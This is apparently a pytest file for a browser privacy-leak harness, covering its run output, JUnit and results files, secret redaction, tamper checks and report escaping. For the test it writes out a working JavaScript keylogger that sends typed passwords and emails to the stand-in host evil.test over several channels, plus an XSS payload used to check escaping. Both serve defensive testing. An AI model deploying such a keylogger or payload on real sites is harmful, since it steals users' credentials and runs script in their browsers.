"""The evidence report and the files beside it, after a real run with a snippet that leaks on purpose.

One module-scoped run (two scenarios × Chromium and Firefox, through ``harness.cli.main``) feeds most tests:
the run experience (progress, summary, JUnit), results.json, the secret-grep over the whole folder, tamper
evidence, and the report opened offline in headless Chromium.
"""

from __future__ import annotations

import base64
import binascii
import gzip
import hashlib
import io
import json
import re
import shlex
import shutil
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from playwright.sync_api import Page

from harness.cli import ExitStatus, main
from harness.plugin.fixtures import Capture
from harness.privacy.leaks import fingerprint
from harness.privacy.redact import ENCODINGS_SEARCHED, Redactor
from harness.privacy.rules import RULES
from harness.report.html import CHECKPOINT_VIEWS, PROMISES, inline_script, render, write_report
from harness.report.manifest import verify, write_manifest

SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"

PASSWORD = "Hunter2-Secret-Pass"
EMAIL = "ada.leak@example.test"
PROTECTED = (PASSWORD, EMAIL)

LEAKY_LOGIN = f"""
name: Sign in while a keylogger listens
start: https://shop.test/login.html
secrets:
  email: "{EMAIL}"
  password: "{PASSWORD}"
steps:
  - type: {{selector: "#email", text: "{{email}}", delay: 5}}
  - type: {{selector: "#password", text: "{{password}}", delay: 5}}
  # Leaving the field fires its change event: the keylogger's gzip'd batch (compressed asynchronously) goes out
  # now, not in a race with the submit's navigation.
  - press: {{selector: "#password", key: "Tab"}}
  - checkpoint: filled
  - submit: "#login-form"
  - expect: {{text: "Welcome back"}}
  - leave: close
"""

QUIET_HOME = """
name: Look at the home page
start: https://shop.test/index.html
steps:
  - checkpoint: home
  - leave: close
"""

# Every way the value leaves: each key in a URL, each value so far in a beacon body, base64 in an image URL,
# JSON over a WebSocket, a header and a URL path, a gzip'd JSON batch by fetch, and a stash in localStorage.
LEAKY_SNIPPET = """
(() => {
  const batch = [];
  const socket = new WebSocket("wss://evil.test/ws");
  const flush = () => {
    const gz = new Blob([JSON.stringify(batch)]).stream().pipeThrough(new CompressionStream("gzip"));
    new Response(gz).arrayBuffer().then((body) => fetch("https://evil.test/batch", {method: "POST", body, keepalive: true}));
  };
  addEventListener("keydown", (e) => navigator.sendBeacon("https://evil.test/key?k=" + encodeURIComponent(e.key)), true);
  addEventListener("input", (e) => {
    const value = e.target.value;
    batch.push({field: e.target.id, value});
    navigator.sendBeacon("https://evil.test/value", value);
    new Image().src = "https://evil.test/pixel.gif?b=" + encodeURIComponent(btoa(value));
    if (socket.readyState === 1) socket.send(JSON.stringify({value}));
    try { localStorage.setItem("stash-" + e.target.id, value); } catch (err) {}
  }, true);
  addEventListener("change", (e) => {
    const path = "https://evil.test/typed/" + encodeURIComponent(e.target.value);
    fetch(path, {method: "POST", headers: {"x-typed": e.target.value}, keepalive: true});
    flush();
  }, true);
  addEventListener("submit", flush, true);
})();
"""


@dataclass
class Run:
    """One CLI run: its arguments, exit status, output and report folder."""

    argv: list[str]
    status: int
    out: str
    err: str
    report: Path
    snippet: str

    def results(self) -> dict[str, Any]:
        return dict(json.loads((self.report / "results.json").read_text(encoding="utf-8")))

    def run(self, slug: str, browser: str) -> dict[str, Any]:
        return next(r for r in self.results()["runs"] if r["slug"] == slug and r["browser"] == browser)


@pytest.fixture(scope="module")
def leaky(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """Both scenarios in Chromium and Firefox with the leaking snippet, run through the CLI in-process."""
    root = tmp_path_factory.mktemp("leaky")
    scenarios = root / "scenarios"
    scenarios.mkdir()
    (scenarios / "leaky_login.yaml").write_text(LEAKY_LOGIN)
    (scenarios / "quiet_home.yaml").write_text(QUIET_HOME)
    (root / "leaky.js").write_text(LEAKY_SNIPPET)
    argv = ["run", str(scenarios), "--site", str(SITE), "--snippet", str(root / "leaky.js"),
            "--report", str(root / "report"), "--browser", "chromium", "--browser", "firefox"]
    out, err = io.StringIO(), io.StringIO()
    status = main(argv, out, err)
    return Run(argv, status, out.getvalue(), err.getvalue(), root / "report", LEAKY_SNIPPET)


# --- the run experience ------------------------------------------------------------------------------------------


def test_run_prints_progress_per_run_a_summary_the_report_and_the_manifest(leaky: Run) -> None:
    assert leaky.status == ExitStatus.CHECK_FAILED, leaky.out + leaky.err
    assert leaky.err == ""
    lines = leaky.out.splitlines()
    for mark, slug in (("FAIL ", "leaky_login"), ("PASS ", "quiet_home")):
        for browser in ("chromium", "firefox"):
            assert any(line.startswith(f"{mark} {slug} [{browser}] ") for line in lines), leaky.out
    assert re.search(r"^leaky_login +failed +failed *$", leaky.out, re.M)
    assert re.search(r"^quiet_home +passed +passed *$", leaky.out, re.M)
    assert "2 passed, 2 failed, 0 inconclusive, 0 errors" in leaky.out
    assert f"report: {leaky.report / 'index.html'}" in lines
    assert re.search(rf"^manifest: {re.escape(str(leaky.report / 'manifest.json'))} \(sha256 [0-9a-f]{{64}}\)$", leaky.out, re.M)


def test_junit_has_one_testcase_per_scenario_and_browser_and_one_line_failures(leaky: Run) -> None:
    suite = ET.parse(leaky.report / "junit.xml").getroot()
    cases = suite.findall("testcase")
    assert sorted((c.get("classname"), c.get("name")) for c in cases) == sorted(
        (f"telltale.{b}", n) for b in ("chromium", "firefox") for n in ("Sign in while a keylogger listens", "Look at the home page")
    )
    assert suite.get("tests") == "4" and suite.get("failures") == "2" and suite.get("errors") == "0"
    for case in cases:
        failure = case.find("failure")
        if case.get("name") == "Look at the home page":
            assert failure is None
            continue
        assert failure is not None
        message = failure.get("message", "")
        assert "\n" not in message and re.match(r"(never-sent|not-before-submit|at-rest): #(email|password) ", message)
        assert len((failure.text or "").splitlines()) >= 5  # every finding, one per line


def test_results_record_the_environment_and_the_real_command(leaky: Run) -> None:
    results = leaky.results()
    assert results["argv"] == leaky.argv
    assert results["command"] == "telltale " + shlex.join(leaky.argv)
    assert results["snippet"]["sha256"] == hashlib.sha256(leaky.snippet.encode()).hexdigest()
    assert results["snippet"]["path"] == leaky.argv[leaky.argv.index("--snippet") + 1]
    assert set(results["browsers"]) == {"chromium", "firefox"} and all(results["browsers"].values())
    assert results["harness_version"] and results["started"] and results["finished"]
    assert results["encodings_searched"] == list(ENCODINGS_SEARCHED) and {"gzip", "base64", "json"} <= set(ENCODINGS_SEARCHED)


def test_each_typed_value_has_a_verdict_for_each_rule(leaky: Run) -> None:
    run = leaky.run("leaky_login", "chromium")
    rows = {row["field"]: row for row in run["values"]}
    password, email = rows["#password"], rows["#email"]
    assert password["reason"] == "password: type=password" and password["sensitive"]
    assert password["fingerprint"].startswith("⟦fp:") and password["length"] == len(PASSWORD)
    verdicts = {field: {rule: row["rules"][rule]["verdict"] for rule in RULES} for field, row in rows.items()}
    assert verdicts["#password"] == {
        "never-sent": "broken", "not-before-submit": "n/a", "opt-out": "n/a", "at-rest": "broken", "shown-secret": "n/a",
    }
    assert verdicts["#email"] == {
        "never-sent": "n/a", "not-before-submit": "broken", "opt-out": "n/a", "at-rest": "n/a", "shown-secret": "n/a",
    }
    assert password["rules"]["never-sent"]["findings"] >= 3 and email["submitted_ms"] > email["t_ms"]
    quiet = leaky.run("quiet_home", "firefox")
    assert quiet["values"] == [] and {r["verdict"] for r in quiet["rules"].values()} == {"n/a"}
    assert "websocket" in run["inspected"]["channels"] and run["inspected"]["requests"] > 40


# --- no protected value in clear, anywhere --------------------------------------------------------------------


def _spellings(value: str) -> set[bytes]:
    """The forms a protected value must not take anywhere in the folder."""
    raw = value.encode()
    forms = {raw, quote(value, safe="").encode(), quote_plus(value).encode(), json.dumps(value)[1:-1].encode(),
             value.encode("utf-16-le"), raw.hex().encode(), base64.b64encode(raw).rstrip(b"="),
             base64.urlsafe_b64encode(raw).rstrip(b"=")}
    # A keylogger sends every prefix; none of 4 characters or more may remain.
    for length in range(4, len(value)):
        forms |= {value[:length].encode(), quote(value[:length], safe="").encode()}
    return forms


def _json_strings(node: Any) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from _json_strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from _json_strings(value)


def _views(path: Path) -> Iterator[tuple[str, bytes]]:
    """A file's raw bytes, and for JSON files every base64 blob in it decoded (and gunzipped when it is gzip)."""
    data = path.read_bytes()
    yield "raw", data
    if path.suffix != ".json":
        return
    for text in _json_strings(json.loads(data)):
        for blob in re.findall(r"[A-Za-z0-9+/_-]{16,}={0,2}", text):
            try:
                decoded = base64.b64decode(blob + "=" * (-len(blob) % 4), altchars=b"-_" if "-" in blob or "_" in blob else None)
            except (binascii.Error, ValueError):
                continue
            yield "base64 blob", decoded
            if decoded[:2] == b"\x1f\x8b":
                yield "gzip in base64", gzip.decompress(decoded)


def test_no_protected_value_appears_in_clear_anywhere_in_the_report_folder(leaky: Run) -> None:
    files = [p for p in leaky.report.rglob("*") if p.is_file()]
    assert len(files) >= 15
    forms = {value: _spellings(value) for value in PROTECTED}
    for path in files:
        for view, data in _views(path):
            for value, spellings in forms.items():
                found = [form for form in spellings if form in data]
                assert not found, f"{path.relative_to(leaky.report)} ({view}) holds {value[:2]}… as {found[:3]}"


def test_the_run_really_leaked_and_stored_traffic_keeps_its_shape(leaky: Run) -> None:
    # The secret-grep above proves something only if the values were sent, in all those forms, and stored.
    run = leaky.run("leaky_login", "chromium")
    findings = run["findings"]
    assert {f["rule"] for f in findings} == {"never-sent", "not-before-submit", "at-rest"}
    assert any(f["encoding"].startswith("gzip") for f in findings)
    assert any(f["where"].startswith("fragments:k") for f in findings)  # one key per request
    traffic = json.loads((leaky.report / run["dir"] / "traffic.json").read_text())
    by_url = lambda part: [r for r in traffic["requests"] if part in r["url"]]
    (mark,) = {f["fingerprint"] for f in findings if f["field"] == "#password"}
    assert mark in [r["body"].get("text") for r in by_url("evil.test/value")]
    assert f"{mark[:-1]} prefix 10/{len(PASSWORD)}⟧" in [r["body"].get("text") for r in by_url("evil.test/value")]
    assert any(r["url"] == f"https://evil.test/key?k={mark[:-1]} keystroke⟧" for r in by_url("evil.test/key"))
    batches = [r["body"] for r in by_url("evil.test/batch")]
    assert batches and all(b.get("decoded") == "gzip" for b in batches)
    assert any({"field": "password", "value": mark} in json.loads(b["text"]) for b in batches)
    (email_mark,) = {f["fingerprint"] for f in findings if f["field"] == "#email"}
    assert any(["x-typed", email_mark] in r["headers"] for r in by_url("evil.test/typed"))
    storage = json.loads((leaky.report / run["dir"] / "storage.json").read_text())
    assert ["stash-password", mark] in storage[-1]["localStorage"]


# --- tamper evidence -----------------------------------------------------------------------------------------------


def test_verify_passes_on_a_fresh_report_and_fails_after_a_one_byte_change(leaky: Run, tmp_path: Path) -> None:
    copy = tmp_path / "report"
    shutil.copytree(leaky.report, copy)
    out, err = io.StringIO(), io.StringIO()
    assert main(["verify", str(copy)], out, err) == ExitStatus.OK, out.getvalue() + err.getvalue()
    target = copy / "runs" / "leaky_login-chromium" / "traffic.json"
    data = bytearray(target.read_bytes())
    data[100] ^= 0x20
    target.write_bytes(bytes(data))
    out = io.StringIO()
    assert main(["verify", str(copy)], out, err) == ExitStatus.CHECK_FAILED
    assert out.getvalue().splitlines() == ["changed: runs/leaky_login-chromium/traffic.json"]


# --- the report in a browser ----------------------------------------------------------------------------------------


@pytest.mark.only_browser("chromium")
def test_report_opens_offline_with_zero_requests_and_zero_console_errors(
    leaky: Run, page: Page, capture: Capture
) -> None:
    requests: list[str] = []
    problems: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("requestfailed", lambda request: problems.append(f"failed: {request.url}"))
    page.on("console", lambda message: problems.append(message.text) if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    index = leaky.report / "index.html"
    page.goto(index.as_uri(), wait_until="load")

    assert problems == []
    report_folder = leaky.report.as_uri() + "/"
    assert [url for url in requests if not url.startswith(report_folder)] == []
    # Only the live screenshots are pictures on the page; a closed (passed) run's may not be fetched until opened,
    # every open run's are.
    loaded = {url for url in requests if url.endswith(".png")}
    assert loaded <= {
        f"{report_folder}runs/{slug}-{browser}/checkpoints/{name}-live.png"
        for slug, name in (("leaky_login", "filled"), ("quiet_home", "home")) for browser in ("chromium", "firefox")
    }
    shown = set(page.eval_on_selector_all("details.run[open] img", "(images) => images.map((image) => image.src)"))
    assert shown and shown <= loaded, (shown, loaded)
    assert capture.settle().requests == [] and capture.frames == []  # nothing reached the wire either

    summary = page.locator("table").first
    assert "Sign in while a keylogger listens" in summary.inner_text() and "Look at the home page" in summary.inner_text()
    assert summary.locator("a.failed").count() == 2 and summary.locator("a.passed").count() == 2
    # Failures first and open; passed runs last and closed.
    runs = page.eval_on_selector_all("details.run", "(runs) => runs.map((run) => [run.id, run.open])")
    assert runs == [["run-leaky_login-chromium", True], ["run-leaky_login-firefox", True],
                    ["run-quiet_home-chromium", False], ["run-quiet_home-firefox", False]]
    run = page.locator("#run-leaky_login-chromium")
    assert "password: type=password" in run.inner_text()
    files = run.locator("ul.files a").evaluate_all("(links) => links.map((a) => a.getAttribute('href'))")
    assert {f"runs/leaky_login-chromium/{name}" for name in ("traffic.json", "timeline.json", "storage.json")} <= set(files)
    assert run.locator("td b.broken", has_text="never-sent").count() >= 3
    assert page.evaluate("() => [...document.images].every((img) => img.complete && img.naturalWidth > 0)")

    page.screenshot(path=str(leaky.report / "report-screenshot.png"), full_page=True)
    print(f"report screenshot: {leaky.report / 'report-screenshot.png'}")
    write_manifest(leaky.report)  # the screenshot is evidence too: the manifest covers it
    assert verify(leaky.report).ok


# --- rendering and redaction, without a browser -----------------------------------------------------------------------


def test_every_rule_is_explained_in_words() -> None:
    assert set(PROMISES) == set(RULES)


def _document(checkpoint: dict[str, Any]) -> dict[str, Any]:
    run = {
        "scenario": "Replay", "slug": "replay", "file": "replay.yaml", "browser": "chromium",
        "browser_version": "chromium 1", "status": "passed", "error": "", "findings": [], "requests": 0,
        "websocket_frames": 0, "bytes": 0, "duration_ms": 10.0, "dir": "runs/replay-chromium", "values": [],
        "rules": {}, "inspected": {}, "timeline": {}, "checkpoints": [checkpoint],
    }
    return {"harness_version": "0", "runs": [run]}


def test_checkpoints_show_every_image_they_name_side_by_side_each_linked_full_size() -> None:
    # The hook for the replay work: whatever images a checkpoint entry names are shown beside the live one.
    base = "runs/replay-chromium/checkpoints/after login"
    checkpoint = {"name": "after-login", "t_ms": 5.0, **{key: f"{base}-{key}.png" for key, _ in CHECKPOINT_VIEWS},
                  "heatmap": f"{base}-moves.png", "masked": ["#password", "#card"], "mismatch_ratio": 0.004123456}
    page = render(_document(checkpoint))
    for key, caption in CHECKPOINT_VIEWS:
        url = f"runs/replay-chromium/checkpoints/after%20login-{key}.png"
        assert f'<a href="{url}" target=_blank rel=noopener><img src="{url}"' in page
        assert f"<figcaption>{caption}</figcaption>" in page
    # Facts as a small table, not a dump; the run's movement heatmap is not repeated at the checkpoint.
    assert "<tr><th>masked</th><td>#password, #card</td></tr>" in page
    assert "<tr><th>mismatch ratio</th><td>0.004123</td></tr>" in page
    assert "moves.png" not in page.split("<h3>Checkpoints</h3>")[1].split("<h3>Files</h3>")[0]


def test_live_only_checkpoints_show_the_live_screenshot_alone() -> None:
    page = render(_document({"name": "home", "t_ms": 1.0, "live": "runs/replay-chromium/checkpoints/home-live.png"}))
    assert page.count("<img ") == 1 and "What the visitor saw" in page


def test_run_page_shows_the_snippet_batches_received_gaps_and_repeats() -> None:
    document = _document({"name": "home", "t_ms": 1.0, "live": "runs/replay-chromium/checkpoints/home-live.png"})
    session = {"batches": 3, "received": [1, 2, 4], "duplicates": 2, "conflicts": 1, "gaps": [3], "dropped_events": 7,
               "problems": [], "clamped_events": 0, "pages": []}
    document["runs"][0]["replay"] = {"status": "replayed", "error": "", "session": session, "thresholds": None,
                                     "inert": None, "video": None, "heatmaps": [], "redaction": []}
    line = " ".join(render(document).split("<p class=delivery>")[1].split("</p>")[0].split())
    assert line == ("Snippet batches: 3 sequence numbers received (1–4); gaps: 3; 2 identical repeats (retries), "
                    "1 conflicting; 7 events dropped by the snippet's cap.")


def test_the_live_screenshot_says_how_many_boxes_the_harness_hid() -> None:
    live = "runs/replay-chromium/checkpoints/pay-live.png"
    page = render(_document({"name": "pay", "t_ms": 1.0, "live": live, "hidden_boxes": 3}))
    assert "<figcaption>What the visitor saw (3 boxes hidden by the harness)</figcaption>" in page
    assert "hidden_boxes" not in page and "hidden boxes" not in page  # said once, under the picture
    plain = render(_document({"name": "home", "t_ms": 1.0, "live": live, "hidden_boxes": 0}))
    assert "<figcaption>What the visitor saw</figcaption>" in plain


def test_a_values_classification_is_said_once() -> None:
    page = " ".join(render(_every_section_document()).split())
    assert "<b>plain</b>: typed text" in page and "plain: plain" not in page


# --- autoescaping: text from results.json never becomes markup ----------------------------------------------------

# Breaks out of a double- or single-quoted attribute and of element text, with an element that runs script on
# load and one that runs it on error; ``window.pwned`` is set only if either ever runs.
INJECTION = """'"><img src=x onerror="window.pwned=1"><script>window.pwned=2</script>"""


def _every_section_document() -> dict[str, Any]:
    """A results.json document that fills every part of the page: problems, values, findings, timeline, images."""
    verdicts = {rule: {"verdict": "broken", "findings": 1, "occurrences": 2} for rule in RULES}
    value = {
        "source": "typed", "step": 1, "field": "#email", "secret": "email", "fingerprint": "⟦fp:0123456789ab⟧",
        "length": 12, "sensitive": False, "reason": "plain: typed text", "form": "#login-form", "t_ms": 5.0,
        "submitted_ms": 9.0, "checked": False, "why_unchecked": "shorter than 4 characters", "rules": verdicts,
    }
    finding = {
        "rule": "not-before-submit", "field": "#email", "reason": "plain: typed text", "value_kind": "email",
        "channel": "beacon", "encoding": "base64", "url": "https://evil.test/b", "where": "body", "variant": "exact",
        "t_ms": 6.0, "since_submit_ms": -3.0, "when": "3 ms before submit", "fingerprint": "⟦fp:0123456789ab⟧",
        "excerpt": "v=⟦fp:0123456789ab⟧&x=1", "count": 2, "line": "not-before-submit: #email",
    }
    run = {
        "scenario": "Sign in", "slug": "login", "file": "login.yaml", "browser": "chromium",
        "browser_version": "chromium 1", "status": "failed", "visual_problems": [], "error": "the browser failed",
        "findings": [finding, {**finding, "rule": "at-rest", "channel": "storage", "where": "localStorage"}],
        "requests": 1, "websocket_frames": 0, "bytes": 10, "duration_ms": 20.0, "dir": "runs/login-chromium",
        "values": [value, {**value, "source": "shown", "step": None, "t_ms": None, "submitted_ms": None}],
        "rules": verdicts,
        "inspected": {"channels": ["beacon"], "requests": 1, "websocket_frames_sent": 0, "bytes": 10,
                      "storage_snapshots": 1, "background_requests_dropped": 0, "encodings": ["base64"],
                      "destinations": [{"origin": "https://evil.test", "requests": 1, "bytes": 10, "channels": ["beacon"]}]},
        "timeline": {
            "steps": [{"index": 1, "kind": "type", "start_ms": 1.0, "end_ms": 5.0, "ok": False, "detail": "timed out",
                       "what": '#email "{email}"'}],
            "typed": [], "submits": [{"form": "#login-form", "page_url": "https://shop.test/", "t_ms": 9.0}],
            "optouts": [12.0], "checkpoints": [], "pages": [{"t_ms": 0.5, "url": "https://shop.test/login.html"}],
        },
        "checkpoints": [{"name": "filled", "t_ms": 8.0, "live": "runs/login-chromium/checkpoints/filled-live.png",
                         "status": "failed", "detail": "fidelity 0.5 < 0.98"}],
    }
    return {
        "harness_version": "0.1.0", "python": "3.11", "platform": "Linux", "command": "telltale run login.yaml",
        "argv": ["run", "login.yaml"], "cwd": "/work", "snippet": {"path": "leaky.js", "sha256": "00" * 32},
        "started": "2026-01-01T00:00:00+00:00", "finished": "2026-01-01T00:00:01+00:00",
        "browsers": {"chromium": "chromium 1"}, "encodings_searched": ["base64"], "runs": [run],
        "invalid": ["bad.yaml:1:1: unknown step"], "environment_errors": ["firefox: not installed"],
    }


_CHOICES = {"status", "verdict", "source", "rule", "dir"}  # values the page branches on (dir: which paths are the run's files)


def _poisoned(node: Any) -> Any:
    """The document with INJECTION appended to every string it shows, as a hostile run could make it."""
    if isinstance(node, str):
        return node + INJECTION
    if isinstance(node, dict):
        return {key: value if key in _CHOICES else _poisoned(value) for key, value in node.items()}
    if isinstance(node, list):
        return [_poisoned(value) for value in node]
    return node


class _Markup(HTMLParser):
    """Every element and attribute of a page as a browser's tokenizer sees them, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_text_from_results_is_escaped_in_every_section_and_attribute() -> None:
    clean = _Markup(render(_every_section_document()))
    poisoned = _Markup(render(_poisoned(_every_section_document())))
    assert [tag for tag, _ in poisoned.tags] == [tag for tag, _ in clean.tags]  # not one element more
    assert not [(tag, name) for tag, attrs in poisoned.tags for name in attrs if name.startswith("on")]
    # Inert, yet shown to the reader as it was written: in text (split at <mark> in evidence) and in attributes.
    assert "".join(poisoned.text).count(INJECTION) >= 60
    (alt,) = [attrs["alt"] for tag, attrs in poisoned.tags if tag == "img"]
    assert alt == f"filled{INJECTION}: What the visitor saw"


@pytest.mark.only_browser("chromium")
@pytest.mark.browser_context_args(bypass_csp=True)  # the report's CSP would stop scripts too: test escaping alone
def test_hostile_text_runs_no_script_in_a_browser(page: Page, tmp_path: Path) -> None:
    index = write_report(_poisoned(_every_section_document()), tmp_path / "report")
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(index.as_uri(), wait_until="load")
    page.wait_for_timeout(200)  # an injected image's onerror fires after load
    assert page.evaluate("() => window.pwned") is None and errors == []
    assert page.evaluate("() => document.querySelectorAll('[onerror]').length") == 0
    assert page.evaluate("() => [...document.scripts].map((s) => s.textContent)") == [inline_script().text]  # ours alone
    assert page.locator("details.run h2").inner_text().startswith(f"Sign in{INJECTION} in chromium")
    assert page.locator("figure img").get_attribute("alt") == f"filled{INJECTION}: What the visitor saw"


KEY = b"k" * 16
REDACTIONS: list[tuple[str, str, str]] = [
    # (input, expected, what it shows)
    (PASSWORD, "{pw}", "the whole value"),
    (f"e={quote(EMAIL, safe='')}&x=1", "e={em url}&x=1", "URL-encoded"),
    (json.dumps({"v": "Hunter2-Sec"}), '{{"v": "{pw prefix 11/19}"}}', "a prefix a keylogger sent"),
    ("Hunt", "{pw prefix 4/19}", "the shortest prefix redacted"),
    ("Hun", "Hun", "three characters are left"),
    (base64.b64encode(PASSWORD.encode()).decode(), "{pw base64}==", "base64 of the value"),
    (EMAIL.upper().lower(), "{em}", "lowercase is the value itself here"),
    (f"  {PASSWORD.lower()} ", "  {pw lowercase} ", "a lowercased copy"),
    (hashlib.sha256(EMAIL.encode()).hexdigest(), "{em sha256}", "a digest of the value"),
]


@pytest.mark.parametrize(("text", "expected"), [(t, e) for t, e, _ in REDACTIONS], ids=[w for _, _, w in REDACTIONS])
def test_redactor_replaces_every_spelling_with_the_values_marker(text: str, expected: str) -> None:
    redactor = Redactor([PASSWORD, EMAIL], KEY)
    marks = {"pw": fingerprint(PASSWORD, KEY)[:-1], "em": fingerprint(EMAIL, KEY)[:-1]}
    wanted = re.sub(r"\{(pw|em)( [^}]*)?\}", lambda m: marks[m.group(1)] + (m.group(2) or "") + "⟧", expected)
    assert redactor.text(text) == wanted.replace("{{", "{").replace("}}", "}")


def test_redactor_keeps_a_short_value_only_where_it_stands_alone() -> None:
    redactor = Redactor(["boots"], KEY)
    assert redactor.text("q=boots&redirect=/bootstrap") == f"q={fingerprint('boots', KEY)}&redirect=/bootstrap"


def test_stored_bodies_keep_their_shape_or_are_withheld() -> None:
    redactor = Redactor([PASSWORD], KEY)
    mark = fingerprint(PASSWORD, KEY)
    compressed = gzip.compress(json.dumps({"v": PASSWORD}).encode())
    assert redactor.body(compressed) == {"text": json.dumps({"v": mark}, ensure_ascii=False), "decoded": "gzip",
                                         "bytes": len(compressed)}
    clean = b"\x00\xff\xfe binary without secrets"
    assert redactor.body(clean) == {"base64": base64.b64encode(clean).decode()}
    hidden = b"\xff\xfe" + base64.b64encode(gzip.compress(PASSWORD.encode()))
    withheld = redactor.body(hidden)
    assert set(withheld) == {"withheld", "bytes"} and withheld["bytes"] == len(hidden)
    assert f"{mark[:-1]} exact⟧ via base64 → gzip" in withheld["withheld"] and PASSWORD not in json.dumps(withheld)

